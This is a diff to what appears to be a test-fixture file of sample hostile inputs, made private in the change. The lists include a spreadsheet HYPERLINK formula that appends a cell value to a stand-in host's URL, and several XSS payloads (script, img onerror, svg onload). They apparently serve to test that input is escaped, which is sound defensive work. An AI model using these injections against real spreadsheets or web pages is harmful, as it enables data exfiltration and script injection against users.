@@ -4,7 +4,7 @@
  */
 
 /** What Excel, LibreOffice or Google Sheets would run, or fetch, if it were taken for input. */
-export const INJECTIONS: readonly string[] = [
+const INJECTIONS: readonly string[] = [
   "=1+1",
   "=A1",
   '=HYPERLINK("https://example.invalid/?d="&A1,"Bấm vào đây")',
@@ -61,7 +61,7 @@ export const INJECTIONS: readonly string[] = [
 ];
 
 /** What HTML, links, formats and the like would make of a text. */
-export const MARKUP: readonly string[] = [
+const MARKUP: readonly string[] = [
   "<script>document.title='x'</script>",
   "<img src=x onerror=\"document.title='x'\">",
   "<svg/onload=alert(1)>",
@@ -90,7 +90,7 @@ export const MARKUP: readonly string[] = [
 ];
 
 /** What is read as something else than the text, or breaks what counts, cuts, folds or compares text. */
-export const ODD: readonly string[] = [
+const ODD: readonly string[] = [
   "TRUE",
   "false",
   "ĐÚNG",
